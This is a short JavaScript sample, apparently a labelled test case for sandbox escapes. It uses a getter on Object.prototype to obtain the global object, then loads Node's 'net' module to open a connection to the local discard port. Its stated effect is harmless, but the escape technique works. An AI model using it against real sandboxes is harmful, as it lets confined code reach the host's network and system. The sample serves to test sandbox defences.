// class: reflective | technique: getter defined on Object.prototype, then read as a bare identifier: the global object is the receiver, so `this` is globalThis | effect: TCP connect to 127.0.0.1:9 via net
Object.defineProperty(Object.prototype, 'runtimeHost', {
  get() {
    return this;
  },
  configurable: true,
});

const host = runtimeHost; // resolved on the global object's prototype chain
delete Object.prototype.runtimeHost;

const net = host.process.getBuiltinModule('net');
const sock = net.connect(9, '127.0.0.1');
sock.on('connect', () => console.log('connected'));
sock.on('error', (e) => console.log('connect attempted:', e.code));
